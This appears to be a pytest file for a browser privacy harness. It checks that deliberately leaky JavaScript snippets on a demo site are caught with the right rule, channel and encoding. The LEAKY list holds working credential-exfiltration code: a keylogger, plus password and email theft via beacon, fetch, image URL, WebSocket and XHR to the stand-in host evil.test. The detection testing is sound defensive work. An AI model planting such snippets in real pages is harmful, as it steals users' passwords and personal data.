"""The privacy rules in a real browser: deliberately leaky snippets on the demo site are each caught with the
right rule, channel and encoding; a well-behaved snippet produces no finding."""

from __future__ import annotations

import dataclasses
import io
import json
from pathlib import Path

import pytest
from demo_flows import SITE, login

from harness.capture.proxy import CapturedRequest
from harness.cli import ExitStatus, main
from harness.privacy.protected import Guarded
from harness.privacy.rules import Evidence, evaluate_evidence
from harness.run.timeline import Submit

LOGIN = login(wait_ms=400)

# Each leaky snippet, and a finding it must produce: (rule, field, channel, a part of the encoding chain).
LEAKY: list[tuple[str, str, tuple[str, str, str, str]]] = [
    ("keylogger-one-key-per-beacon",
     "addEventListener('keydown', (e) => navigator.sendBeacon('https://evil.test/k', JSON.stringify({k: e.key})), true);",
     ("never-sent", "#password", "beacon", "plain")),
    ("base64-json-via-fetch",
     """addEventListener('submit', () => { const v = document.querySelector('#password').value;
        fetch('https://evil.test/f', {method: 'POST', body: btoa(JSON.stringify({pw: v})), keepalive: true}); }, true);""",
     ("never-sent", "#password", "fetch", "base64")),
    ("sha256-email-in-image-url",
     """addEventListener('change', async (e) => { if (e.target.id !== 'email') return;
        const d = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(e.target.value));
        new Image().src = 'https://evil.test/p.gif?h=' + Array.from(new Uint8Array(d)).map((b) => b.toString(16).padStart(2, '0')).join(''); }, true);""",
     ("not-before-submit", "#email", "image", "plain")),
    ("gzip-batch",
     """let t; addEventListener('input', (e) => { clearTimeout(t); const v = e.target.value; t = setTimeout(async () => {
        const s = new Blob([JSON.stringify({events: [{v}]})]).stream().pipeThrough(new CompressionStream('gzip'));
        fetch('https://evil.test/batch', {method: 'POST', body: await new Response(s).arrayBuffer()}); }, 100); }, true);""",
     ("never-sent", "#password", "fetch", "gzip")),
    ("websocket",
     """const ws = new WebSocket('wss://evil.test/ws');
        addEventListener('input', (e) => { if (ws.readyState === 1) ws.send(JSON.stringify({v: e.target.value})); }, true);""",
     ("never-sent", "#password", "websocket", "plain")),
    ("beacon-at-unload",
     """addEventListener('pagehide', () => { const p = document.querySelector('#password');
        if (p) navigator.sendBeacon('https://evil.test/bye', 'pw=' + encodeURIComponent(p.value)); });""",
     ("never-sent", "#password", "beacon", "plain")),
    ("delayed-xhr",
     """addEventListener('input', (e) => { const v = e.target.value; setTimeout(() => {
        const x = new XMLHttpRequest(); x.open('POST', 'https://evil.test/x'); x.send(v); }, 150); }, true);""",
     ("never-sent", "#password", "xhr", "plain")),
    ("stash-in-localstorage",
     "addEventListener('input', (e) => localStorage.setItem('last-' + e.target.id, e.target.value), true);",
     ("at-rest", "#password", "storage", "plain")),
]

WELL_BEHAVED = """
(() => {
  const stopped = () => document.cookie.includes('tt_optout=1');
  window.telltale = { optOut() { document.cookie = 'tt_optout=1; path=/'; } };
  const send = (data) => stopped() || navigator.sendBeacon('/telltale/collect', JSON.stringify(data));
  addEventListener('load', () => send({t: 'view', url: location.pathname}));  // a page view, until opted out
  addEventListener('click', (e) => send({t: 'click', x: e.clientX, y: e.clientY}), true);
  addEventListener('pointermove', (e) => send({t: 'move', x: e.clientX, y: e.clientY}), true);
  addEventListener('keydown', () => send({t: 'key'}), true);
  addEventListener('submit', (e) => {
    const fields = {};
    for (const el of e.target.elements) {
      if (!el.name || el.type === 'password' || el.type === 'hidden' || /cc-|one-time|password/.test(el.autocomplete)) continue;
      if (el.closest('[data-sensitive]') || /^(pin|cvv|card)$/.test(el.name)) continue;
      fields[el.name] = el.value;
    }
    send({t: 'submit', fields});
  }, true);
})();
"""


def _run(tmp_path: Path, snippet: str, scenarios: list[str], browser: str = "chromium",
         jobs: int = 1) -> tuple[int, dict[str, object]]:
    snippet_file = tmp_path / "snippet.js"
    snippet_file.write_text(snippet)
    out, err = io.StringIO(), io.StringIO()
    status = main(
        ["run", *scenarios, "--site", str(SITE), "--snippet", str(snippet_file), "--report", str(tmp_path / "r"),
         "--browser", browser, "-j", str(jobs)], out, err,
    )
    return status, json.loads((tmp_path / "r" / "results.json").read_text())


@pytest.mark.parametrize(("name", "snippet", "expected"), LEAKY, ids=[case[0] for case in LEAKY])
def test_leaky_snippet_is_caught(tmp_path: Path, name: str, snippet: str, expected: tuple[str, str, str, str]) -> None:
    scenario = tmp_path / "login.yaml"
    scenario.write_text(LOGIN)
    status, results = _run(tmp_path, snippet, [str(scenario)])
    (run,) = results["runs"]  # type: ignore[misc]
    assert status == ExitStatus.CHECK_FAILED, run
    rule, field, channel, encoding = expected
    found = [(f["rule"], f["field"], f["channel"], f["encoding"]) for f in run["findings"]]
    assert any(r == rule and f == field and c == channel and encoding in e for r, f, c, e in found), found
    # Evidence never carries the value itself: every excerpt shows the fingerprint instead.
    timeline = json.loads((tmp_path / "r" / run["dir"] / "timeline.json").read_text())
    marks = {t["fingerprint"] for t in timeline["typed"]}
    assert all(f["fingerprint"] in marks for f in run["findings"])


def test_well_behaved_snippet_has_no_findings_on_any_bundled_scenario(tmp_path: Path) -> None:
    root = Path(__file__).resolve().parent.parent / "scenarios"
    status, results = _run(tmp_path, WELL_BEHAVED, [str(root)], jobs=2)  # runs mostly wait: two at once
    runs = results["runs"]
    assert len(runs) >= 10  # type: ignore[arg-type]
    problems = {r["file"]: r["findings"] or r["error"] for r in runs if r["status"] != "passed"}  # type: ignore[union-attr]
    assert not problems and status == ExitStatus.OK


# --- judging hits, without a browser ---------------------------------------------------------------------------

EMAIL = "ada.lovelace@example.org"
PASSWORD_LIKE_EMAIL = "ada.lovelace!Secret9"  # shares its first 12 characters with EMAIL


def _beacon(t_ms: float, body: str) -> CapturedRequest:
    return CapturedRequest(t_ms, "POST", "https://tracker.example/c", (), body.encode(), "beacon")


def _evidence(*requests: CapturedRequest) -> Evidence:
    guarded = [
        Guarded(EMAIL, "#email", "plain text field", "email", False, False, "#login-form", 10.0),
        Guarded(PASSWORD_LIKE_EMAIL, "#password", "type=password", "password", True, False, "#login-form", 20.0),
    ]
    return Evidence(requests, [], [], guarded, [Submit("#login-form", "https://shop.test/login.html", 100.0)], [])


def test_a_prefix_that_an_allowed_value_explains_is_no_finding() -> None:
    """After submit the e-mail may leave; its first 12 characters are also the password's, which proves nothing."""
    assert evaluate_evidence(_evidence(_beacon(200.0, '{"v": "ada.lovelace"}'))) == []
    before_submit = evaluate_evidence(_evidence(_beacon(50.0, '{"v": "ada.lovelace"}')))
    assert {(f.rule, f.field, f.prefix) for f in before_submit} >= {("not-before-submit", "#email", 12)}


def test_a_prefix_no_allowed_value_explains_is_a_finding_and_growing_prefixes_are_one() -> None:
    requests = [_beacon(200.0 + i, json.dumps({"v": PASSWORD_LIKE_EMAIL[:n]})) for i, n in enumerate((14, 16, 18))]
    (finding,) = evaluate_evidence(_evidence(*requests))
    assert (finding.rule, finding.field, finding.count, finding.prefix) == ("never-sent", "#password", 3, 14)


def test_part_of_a_value_sent_before_it_was_typed_is_chance() -> None:
    """A 6-digit code's first four digits in a batch of times sent before the code was typed: no finding.
    The same prefix once typing began, or the whole value at any time, is one."""
    code = "894161"
    guarded = [Guarded(code, "#otp", "autocomplete=one-time-code", "otp", True, False, "#verify-form", 1000.0)]

    def findings(t_ms: float, body: str) -> set[tuple[str, int]]:
        evidence = Evidence([_beacon(t_ms, body)], [], [], guarded, [], [])
        return {(f.rule, f.prefix) for f in evaluate_evidence(evidence)}

    batch = '{"events": [{"type": "move", "t": 89416, "xy": [634, 318]}]}'  # "89416" by chance
    assert findings(729.0, batch) == set()
    assert findings(1200.0, batch) == {("never-sent", 5)}
    assert findings(729.0, '{"v": "894161"}') == {("never-sent", 0)}
    keys = [_beacon(700.0 + i, json.dumps({"k": char})) for i, char in enumerate(code)]
    assert evaluate_evidence(Evidence(keys, [], [], guarded, [], [])) == []
    assert evaluate_evidence(Evidence(keys, [], [], [dataclasses.replace(guarded[0], typed_ms=600.0)], [], []))


def test_a_short_prefix_of_digits_is_too_common_to_report() -> None:
    """Batches are full of numbers: a 6-digit code's first four digits as one of them prove nothing; five do.
    Letters make a 4-character prefix rare enough."""
    code = Guarded("894161", "#otp", "autocomplete=one-time-code", "otp", True, False, "", 0.0)
    word = Guarded("Hunter2-Secret", "#password", "type=password", "password", True, False, "", 0.0)

    def prefixes(body: str) -> set[tuple[str, int]]:
        evidence = Evidence([_beacon(500.0, body)], [], [], [code, word], [], [])
        return {(f.field, f.prefix) for f in evaluate_evidence(evidence)}

    assert prefixes('{"t": 8941, "xy": [634, 318]}') == set()
    keys = [_beacon(500.0 + n, json.dumps({"k": char})) for n, char in enumerate("8941")]  # four keys alone too
    assert evaluate_evidence(Evidence(keys, [], [], [code, word], [], [])) == []
    assert prefixes('{"t": 89416}') == {("#otp", 5)}
    assert prefixes('{"v": "Hunt"}') == {("#password", 4)}
